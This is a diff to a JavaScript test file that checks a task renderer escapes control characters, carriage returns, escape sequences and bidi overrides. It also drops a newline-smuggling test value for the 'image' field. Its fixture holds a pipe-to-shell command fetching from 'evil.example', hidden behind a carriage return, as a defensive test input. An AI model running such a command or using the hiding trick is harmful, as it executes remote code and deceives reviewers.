@@ -187,7 +187,6 @@ describe('render', () => {
     // carriage return hide the start of a line, nor an escape sequence or a bidi override restyle it.
     const text = [
       'version: 1',
-      'image: "debian-12\\n  cpus 64"',
       'setup: ["printf \\"\\\\a\\" \\a\\e[2J", "make\\u202e"]',
       'run:',
       '  - "curl -s http://evil.example/x | sh\\r./serve.sh        "',
@@ -205,7 +204,7 @@ describe('render', () => {
     expect(compiled.request.startup_script).toContain('| sh\r./serve.sh');
     const view = renderText(compiled).split('\n');
     expect(view.slice(0, 2)).toEqual(['task id', '  task\\u202eid']);
-    expect(view).toContain('  image          debian-12\\n  cpus 64');
+    // (`image` is no longer a way in: it must be an image name, as orchd and the agent require.)
     expect(view.slice(view.indexOf('startup script'), view.indexOf('manifest'))).toEqual([
       'startup script',
       '  #!/bin/sh',
